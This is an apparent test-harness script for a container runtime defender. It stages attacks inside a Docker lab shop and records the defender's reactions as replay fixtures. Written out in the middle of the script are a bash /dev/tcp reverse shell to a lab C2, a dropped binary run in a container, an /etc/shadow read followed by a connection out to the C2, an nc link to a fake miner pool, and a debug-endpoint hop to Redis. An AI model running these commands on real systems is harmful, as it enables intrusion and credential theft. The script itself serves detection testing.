/**
 * Records a real defender in the lab (root, after `npm run lab:up`): the shop
 * (lab/shop) learned under load, then the lab's attacks against it — a shell,
 * a reverse shell to a listed C2, a dropped binary, credentials read and sent
 * out, a miner, a package manager, a connection through the front end's flaw
 * to Redis — with `tenet defender --record`. The recording, gzipped, is what
 * the in-process defender suite and bench/pipeline replay without a kernel:
 * `npm run lab:record` writes it to test/defender/recordings/shop.jsonl.gz.
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { DOCKER, LAB_IMAGES, LAB_LABEL, pingDocker } from './lab.ts';
import { SHOP_NETWORK, shopContainer, startShop, stopShop } from './shop.ts';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..');
const OUT = join(ROOT, 'test', 'defender', 'recordings', 'shop.jsonl.gz');
/** The audits the live defender stored, for the replays to be held to. */
const AUDITS = join(ROOT, 'test', 'defender', 'recordings', 'shop.audits.json');
const BIN = join(ROOT, 'bin', 'tenet.js');
const LEARN_SEC = 20;

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const docker = (...args: string[]) => execFileSync(DOCKER, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
const quiet = (...args: string[]) => spawnSync(DOCKER, args, { stdio: 'ignore' });
const address = (name: string) => docker('inspect', '-f', `{{(index .NetworkSettings.Networks "${SHOP_NETWORK}").IPAddress}}`, name);
const tenet = (...args: string[]) => execFileSync(process.execPath, [BIN, ...args], { encoding: 'utf8' });
/** `docker exec` that may fail: an attack refused or cut short is still an attack. */
const attempt = (...args: string[]) => spawnSync(DOCKER, ['exec', ...args], { stdio: 'ignore', timeout: 10_000 });

async function until(what: string, check: () => boolean | Promise<boolean>, timeoutMs: number): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`${what}: not within ${timeoutMs} ms`);
    await sleep(200);
  }
}

/** The shop's normal workload, until stopped: the front end asked for its API page again and again. */
function shopping(): () => Promise<void> {
  let going = true;
  const done = (async () => {
    while (going) {
      await fetch(`http://${address(shopContainer('web'))}:8080/api/cart`, { signal: AbortSignal.timeout(3000) }).then((r) => r.text(), () => '');
      await sleep(100);
    }
  })();
  return async () => {
    going = false;
    await done;
  };
}

async function main(): Promise<void> {
  if (process.getuid?.() !== 0 || !(await pingDocker())) throw new Error('the lab is not up: run `npm run lab:up` as root first');
  const work = mkdtempSync(join(tmpdir(), 'tenet-record-'));
  const file = join(work, 'shop.jsonl');
  const data = join(work, 'data');
  const defender = spawn(process.execPath, [BIN, 'defender', '--learn-for', `${LEARN_SEC}s`, '--data', data, '--record', file], { stdio: ['ignore', 'ignore', 'pipe'], detached: true });
  const log: string[] = [];
  createInterface({ input: defender.stderr! }).on('line', (line) => log.push(line));
  const stopDefender = async () => {
    if (defender.exitCode !== null) return;
    process.kill(-defender.pid!, 'SIGTERM');
    await new Promise((r) => defender.once('close', r));
  };
  const attackers: string[] = [];
  try {
    await until('the defender runs', () => log.some((l) => l.includes('defender running')), 60_000);
    startShop();
    const label = ['--label', `${LAB_LABEL}=shop`, '--network', SHOP_NETWORK];
    attackers.push(docker('run', '-d', ...label, '--name', 'shop-c2', LAB_IMAGES.busybox, 'sh', '-c', 'while true; do nc -l -p 4444 < /dev/null; done'));
    attackers.push(docker('run', '-d', ...label, '--name', 'shop-pool', LAB_IMAGES.busybox, 'sh', '-c', 'while true; do nc -l -p 3333 < /dev/null; done'));
    const c2 = address('shop-c2');
    const pool = address('shop-pool');
    writeFileSync(join(work, 'c2.csv'), `ip,category,score,first_seen,last_seen,ports\n${c2},c2,95,2026-01-01,2026-11-01,4444\n`);
    tenet('intel', 'load', join(work, 'c2.csv'), '--data', data);
    await until('the front end answers', async () => (await fetch(`http://${address(shopContainer('web'))}:8080/api/x`, { signal: AbortSignal.timeout(3000) }).catch(() => undefined))?.ok === true, 30_000);

    // learning, under the shop's own load
    const stop = shopping();
    await until('the shop\'s models are active', () => {
      const models = JSON.parse(tenet('models', '--data', data, '--format', 'json')) as Array<{ image?: string; state: string }>;
      return [LAB_IMAGES.shopWeb, LAB_IMAGES.shopApi, LAB_IMAGES.shopWorker, LAB_IMAGES.redis].every((i) => models.some((m) => m.image === i && m.state === 'active'));
    }, (LEARN_SEC + 90) * 1000);
    await sleep(3000);

    // the attacks, while the shop goes on serving
    const web = shopContainer('web');
    const api = shopContainer('api');
    const worker = shopContainer('worker');
    attempt(web, 'sh', '-c', 'id; uname -a');
    attempt(web, 'bash', '-c', `bash -i >& /dev/tcp/${c2}/4444 0>&1`);
    docker('cp', '/bin/busybox', `${api}:/tmp/helper`);
    attempt(api, '/tmp/helper', 'true');
    attempt('-u', '0', api, 'sh', '-c', `cat /etc/shadow > /dev/null; node -e "require('net').connect(4444, '${c2}').on('error', () => {})"`);
    docker('cp', '/bin/busybox', `${worker}:/tmp/busybox`);
    attempt(worker, '/tmp/busybox', 'nc', '-w', '1', pool, '3333');
    attempt(worker, 'apt-get', '--version');
    await fetch(`http://${address(web)}:8080/debug/connect?to=${address(shopContainer('redis'))}:6379`, { signal: AbortSignal.timeout(10_000) }).then((r) => r.text());
    await sleep(5000);
    await stop();
    await stopDefender();
    const text = readFileSync(file);
    writeFileSync(OUT, gzipSync(text, { level: 9 }));
    const audits = JSON.parse(tenet('audits', '--data', data, '--format', 'json', '--limit', '100000')) as Array<{ id: string; rule: string; container: { name?: string } }>;
    writeFileSync(AUDITS, `${JSON.stringify(audits.map(({ id: _, ...a }) => a), null, 1)}\n`);
    console.log(`record: ${text.toString('utf8').split('\n').length - 1} entries, ${text.length} bytes (${readFileSync(OUT).length} gzipped) in ${OUT}`);
    console.log(`record: the live defender's audits: ${audits.map((a) => `${a.container.name}:${a.rule}`).join(', ')}`);
  } finally {
    await stopDefender();
    for (const id of attackers) quiet('rm', '-f', id);
    stopShop();
    rmSync(work, { recursive: true, force: true });
  }
}

main().catch((e: Error) => {
  console.error(`record: ${e.message}`);
  process.exitCode = 1;
});
